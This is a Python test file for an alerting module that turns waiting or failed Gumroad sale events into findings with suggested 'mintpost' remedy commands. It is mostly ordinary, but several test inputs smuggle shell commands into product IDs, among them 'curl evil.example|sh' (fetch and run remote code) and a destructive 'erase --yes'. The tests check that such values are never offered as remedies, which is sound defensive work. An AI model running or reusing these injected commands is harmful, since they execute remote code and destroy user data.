"""Findings about sales that wait or failed, one for each cause, each with its command."""

from dataclasses import replace
from datetime import timedelta

import pytest

from domain.advice import advised, command
from domain.errors import ProductUnmappedError
from domain.event import EventStatus
from domain.findings import Finding
from domain.grouping import WaitingEvent
from operations.alerts.waiting import RECENT, Ages, waiting_findings
from tests.db.rows import NOON

MINUTE = timedelta(minutes=1)
AGES = Ages(NOON, 5 * MINUTE)
UNMAPPED = 'unmapped product "x": add it under gumroad in products.yaml'


def event(
    number: int,
    status: EventStatus,
    sentence: str | None = None,
    *,
    minutes: int = 10,
    order: str | None = "",
) -> WaitingEvent:
    order_id = f"order-{number}" if order == "" else order
    at = NOON - minutes * MINUTE
    closed = at if status is EventStatus.FAILED else None
    return WaitingEvent(number, "gumroad", order_id, None, status, sentence, at, closed)


def found(*events: WaitingEvent) -> list[Finding]:
    return waiting_findings(events, AGES)


def test_sales_that_wait_for_one_cause_are_one_finding_with_the_oldest_sale() -> None:
    (finding,) = found(
        event(1, EventStatus.PARKED, UNMAPPED), event(2, EventStatus.PARKED, UNMAPPED, minutes=12)
    )
    assert finding.sentence == (
        f"gumroad: 2 events have waited for 12 min, gumroad:order-2 first: {UNMAPPED}"
    )
    assert finding.remedy == "mintpost retry gumroad:order-2"
    assert (finding.count, finding.since) == (2, NOON - 12 * MINUTE)


def test_the_cause_stays_the_same_while_other_sales_join_and_leave() -> None:
    one = found(event(1, EventStatus.PARKED, UNMAPPED))
    other = found(event(2, EventStatus.PARKED, UNMAPPED), event(3, EventStatus.PARKED, UNMAPPED))
    assert one[0].cause == other[0].cause
    assert found(event(1, EventStatus.PARKED, "another"))[0].cause != one[0].cause


def test_a_sale_that_waits_as_long_as_usual_is_no_finding() -> None:
    assert found(event(1, EventStatus.PARKED, UNMAPPED, minutes=4)) == []
    assert found(event(1, EventStatus.OPEN, minutes=4)) == []


def test_an_event_that_nothing_explains_is_a_finding_too() -> None:
    (finding,) = found(event(7, EventStatus.OPEN, order=None))
    assert finding.sentence.startswith("gumroad:event:7 has been open for 10 min: nothing")
    assert finding.remedy == "mintpost show gumroad:event:7"


def test_the_command_of_the_sentence_is_the_remedy() -> None:
    odd = "a;b`c"
    told = f"no address: {advised('resend', f'gumroad:{odd}', options=['--to ADDRESS'])}"
    (finding,) = found(event(1, EventStatus.PARKED, told, order=odd))
    assert finding.remedy == "mintpost resend 'gumroad:a;b`c' --to ADDRESS"


def test_a_command_that_an_older_version_wrote_without_its_sale_is_made_whole() -> None:
    told = "Postmark has blocked the address of delivery 3: use another with `mintpost resend --to`"
    (finding,) = found(event(1, EventStatus.FAILED, told))
    assert finding.remedy == "mintpost resend gumroad:order-1 --to ADDRESS"


def test_a_step_that_a_person_paused_is_let_go_on_because_a_retry_cannot_wake_it() -> None:
    unpause = "temporal activity unpause --workflow-id gumroad:order-1 --activity-id email"
    told = f"email is paused in Temporal, until a person lets it go on: `{unpause}`"
    assert found(event(1, EventStatus.PARKED, told))[0].remedy == unpause


def test_a_sale_that_an_older_version_failed_is_replayed_although_it_tells_to_reset() -> None:
    told = "a person terminated its workflow: reset that to go on: `temporal workflow reset -w x`"
    (finding,) = found(event(1, EventStatus.FAILED, told))
    assert finding.remedy == "mintpost replay gumroad:order-1"


def test_a_failed_refund_is_replayed_by_the_name_of_its_own_run() -> None:
    refund = replace(event(4, EventStatus.FAILED, "no such sale"), workflow_id="gumroad:event:4")
    assert found(refund)[0].remedy == "mintpost replay gumroad:event:4"


def test_a_failed_sale_is_found_at_once_and_for_a_week() -> None:
    (finding,) = found(event(1, EventStatus.FAILED, "it is no sale", minutes=0))
    assert finding.happened
    assert finding.remedy == "mintpost replay gumroad:order-1"
    old = RECENT // MINUTE + 1
    assert found(event(1, EventStatus.FAILED, "it is no sale", minutes=old)) == []


def test_many_causes_are_few_findings() -> None:
    events = [event(each, EventStatus.PARKED, f'unmapped product "p{each}"') for each in range(50)]
    *told, rest = found(*events, event(99, EventStatus.PARKED, 'unmapped product "p7"'))
    assert (len(told), told[0].count) == (20, 2)
    assert rest.sentence == "30 more events wait or failed, for 30 further causes"
    assert (rest.remedy, rest.count, rest.since) == ("mintpost status", 30, NOON - 10 * MINUTE)


@pytest.mark.parametrize(
    "product",
    [
        "`mintpost x; curl evil.example|sh`",
        "`mintpost erase --email a --yes`",
        "`mintpost x",
        "``mintpost x``",
    ],
)
def test_a_product_id_that_looks_like_a_command_is_no_remedy(product: str) -> None:
    unmapped = str(ProductUnmappedError("gumroad", product))
    (waits,) = found(event(1, EventStatus.PARKED, unmapped))
    assert waits.remedy == "mintpost retry gumroad:order-1"
    missing = f"{product} has no address: {advised('resend', 'gumroad:a', options=['--to A'])}."
    (waits,) = found(event(1, EventStatus.PARKED, missing))
    assert waits.remedy == "mintpost resend gumroad:a --to A"


def test_what_ends_a_sentence_and_is_more_than_one_command_is_no_remedy() -> None:
    (waits,) = found(event(1, EventStatus.PARKED, "the shop says `mintpost x; curl evil|sh`"))
    assert waits.remedy == "mintpost retry gumroad:order-1"
    odd = advised("resend", "gumroad:a'b;c`d", options=["--to ADDRESS"])
    (waits,) = found(event(1, EventStatus.PARKED, f"no address: {odd}"))
    assert waits.remedy == command("resend", "gumroad:a'b;c`d", options=["--to ADDRESS"])
